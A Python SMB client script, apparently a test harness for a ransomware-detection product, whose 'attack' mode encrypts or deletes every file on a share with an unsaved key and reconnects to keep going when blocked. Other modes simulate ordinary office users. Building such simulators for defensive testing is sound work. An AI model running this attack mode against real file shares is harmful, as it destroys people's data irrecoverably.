#!/usr/bin/python3
"""smb-client.py — a real SMB client (libsmbclient through python3-smbc) for the file-server tests
and bench: the ransomware on an infected PC that encrypts a mapped share, and the colleagues who
keep working on it.

  smb-client.py attack  --url smb://127.0.0.1:4450/share/dir --user U --password P
                        [--mode inplace|newfile|wipe] [--retry SECONDS] --log FILE
      Encrypt every file under the directory at full speed: in place (read, overwrite with
      ciphertext, close), or newfile (write NAME.locked, delete NAME); or wipe: delete every
      file without opening it (what a blocked client can still try: SMB deletes by path). A dropped session or a
      denied open is retried with a fresh connection, as real ransomware does, until --retry
      seconds have passed since the first failure. FILE gets one line per file damaged
      ("EPOCH PATH", the simulator's format) and '#' comment lines for the rest.
  smb-client.py save    --url smb://…/share/doc.txt --user U --password P --seconds S [--interval MS]
      Save one document again and again (open, truncate, write 20 KB, close, read back) like an
      editor's autosave. Prints "saves N errors E" and the first errors.
  smb-client.py copy    --url smb://…/share/dir --user U --password P --src LOCALDIR
      Copy a local folder (photos) onto the share. Prints "copied N bytes B seconds T errors E".
  smb-client.py office  --url smb://…/share/dir --user U --password P --src LOCALDIR
      Save every document of LOCALDIR onto the share the way Word does: write a temp file, rename
      the old version aside, rename the temp file into place, delete the old version; twice.
      Prints "saved N errors E".

Exit status: 0 done (errors are counted, not fatal), 2 usage, 3 could not connect at all.
"""
import argparse
import hashlib
import os
import sys
import time

import smbc


def context(user, password):
    ctx = smbc.Context(auth_fn=lambda srv, shr, wg, u, p: ("WORKGROUP", user, password))
    ctx.optionNoAutoAnonymousLogin = True
    return ctx


def walk(ctx, url):
    """Every file under url, depth first, names sorted."""
    out = []
    try:
        ents = sorted(ctx.opendir(url).getdents(), key=lambda e: e.name)
    except Exception:
        return out
    for e in ents:
        if e.name in (".", ".."):
            continue
        u = url.rstrip("/") + "/" + e.name
        if e.smbc_type == smbc.DIR:
            out += walk(ctx, u)
        elif e.smbc_type == smbc.FILE:
            out.append(u)
    return out


def keystream(key, n):
    """SHA-256 in counter mode: ciphertext indistinguishable from random, cheap in Python."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(key + i.to_bytes(8, "little")).digest()
        i += 1
    return bytes(out[:n])


def encrypt(data, key):
    ks = keystream(key, len(data))
    return bytes(a ^ b for a, b in zip(data, ks)) if len(data) < 4096 else \
        (int.from_bytes(data, "little") ^ int.from_bytes(ks, "little")).to_bytes(len(data), "little")


def read_all(f):
    chunks = []
    while True:
        b = f.read(1 << 20)
        if not b:
            break
        chunks.append(b)
    return b"".join(chunks)


def attack(a):
    log = open(a.log, "a", buffering=1)
    key = os.urandom(32)
    ctx = context(a.user, a.password)
    try:
        todo = walk(ctx, a.url)
    except Exception as e:
        print("attack: cannot list %s: %s" % (a.url, e), file=sys.stderr)
        return 3
    log.write("# %d files under %s, mode %s\n" % (len(todo), a.url, a.mode))
    first_fail = None
    denied = 0
    reconnects = 0
    i = 0
    while i < len(todo):
        u = todo[i]
        try:
            if a.mode == "wipe":
                ctx.unlink(u)
                log.write("%.6f %s\n" % (time.time(), u))
                i += 1
                continue
            f = ctx.open(u, os.O_RDONLY)
            data = read_all(f)
            f.close()
            ct = encrypt(data, key)
            if a.mode == "inplace":
                f = ctx.open(u, os.O_WRONLY | os.O_TRUNC)
                f.write(ct)
                f.close()
            else:
                f = ctx.open(u + ".locked", os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
                f.write(ct)
                f.close()
                ctx.unlink(u)
            log.write("%.6f %s\n" % (time.time(), u))
            i += 1
        except Exception as e:
            now = time.time()
            if first_fail is None:
                first_fail = now
                log.write("# %.6f first failure at %s: %s\n" % (now, u, e))
            if now - first_fail >= a.retry:
                break
            denied += 1
            # Real ransomware retries at once: a fresh session (the old one may be gone).
            ctx = context(a.user, a.password)
            reconnects += 1
            time.sleep(0.02)
            # Skip a file that keeps failing after a few tries, come back to the rest.
            if denied % 5 == 0:
                i += 1
    log.write("# done: %d of %d files, %d failures, %d reconnects\n" % (i, len(todo), denied, reconnects))
    return 0


def save(a):
    ctx = context(a.user, a.password)
    text = (("Minutes of the meeting, item %d. " * 10 + "\n") * 64).encode()
    saves = errors = 0
    first = []
    end = time.time() + a.seconds
    while time.time() < end:
        body = text.replace(b"%d", str(saves).encode())
        try:
            f = ctx.open(a.url, os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
            f.write(body)
            f.close()
            f = ctx.open(a.url, os.O_RDONLY)
            back = read_all(f)
            f.close()
            if back != body:
                raise IOError("read back %d bytes, wrote %d" % (len(back), len(body)))
            saves += 1
        except Exception as e:
            errors += 1
            if len(first) < 3:
                first.append("%.3f %s" % (time.time(), e))
            ctx = context(a.user, a.password)
        time.sleep(a.interval / 1000.0)
    print("saves %d errors %d" % (saves, errors))
    for f in first:
        print("  error: " + f)
    return 0


def copy(a):
    ctx = context(a.user, a.password)
    n = total = errors = 0
    t0 = time.time()
    try:
        ctx.mkdir(a.url, 0o755)
    except Exception:
        pass
    for name in sorted(os.listdir(a.src)):
        p = os.path.join(a.src, name)
        if not os.path.isfile(p):
            continue
        data = open(p, "rb").read()
        try:
            f = ctx.open(a.url.rstrip("/") + "/" + name, os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
            f.write(data)
            f.close()
            n += 1
            total += len(data)
        except Exception as e:
            errors += 1
            print("  error: %s: %s" % (name, e))
    print("copied %d bytes %d seconds %.3f errors %d" % (n, total, time.time() - t0, errors))
    return 0


def office(a):
    ctx = context(a.user, a.password)
    n = errors = 0
    base = a.url.rstrip("/")
    try:
        ctx.mkdir(base, 0o755)
    except Exception:
        pass
    docs = [d for d in sorted(os.listdir(a.src)) if os.path.isfile(os.path.join(a.src, d))]
    for rnd in range(2):
        for k, name in enumerate(docs):
            data = open(os.path.join(a.src, name), "rb").read()
            if rnd:  # an edit: the same kind of document, other content
                data = data[: len(data) // 2] + data
            dst, tmp, old = base + "/" + name, base + "/~WRD%04d.tmp" % k, base + "/~WRL%04d.tmp" % k
            try:
                f = ctx.open(tmp, os.O_CREAT | os.O_WRONLY | os.O_TRUNC)
                f.write(data)
                f.close()
                exists = True
                try:
                    ctx.stat(dst)
                except Exception:
                    exists = False
                if exists:
                    ctx.rename(dst, old)
                ctx.rename(tmp, dst)
                if exists:
                    ctx.unlink(old)
                n += 1
            except Exception as e:
                errors += 1
                print("  error: %s: %s" % (name, e))
    print("saved %d errors %d" % (n, errors))
    return 0


def main():
    ap = argparse.ArgumentParser(description="SMB client for ransomguard's file-server tests")
    ap.add_argument("what", choices=["attack", "save", "copy", "office"])
    ap.add_argument("--url", required=True)
    ap.add_argument("--user", required=True)
    ap.add_argument("--password", required=True)
    ap.add_argument("--mode", choices=["inplace", "newfile", "wipe"], default="inplace")
    ap.add_argument("--retry", type=float, default=0)
    ap.add_argument("--log")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--interval", type=float, default=100)
    ap.add_argument("--src")
    a = ap.parse_args()
    if a.what == "attack" and not a.log:
        ap.error("attack needs --log")
    if a.what in ("copy", "office") and not a.src:
        ap.error(a.what + " needs --src")
    return {"attack": attack, "save": save, "copy": copy, "office": office}[a.what](a)


if __name__ == "__main__":
    sys.exit(main())
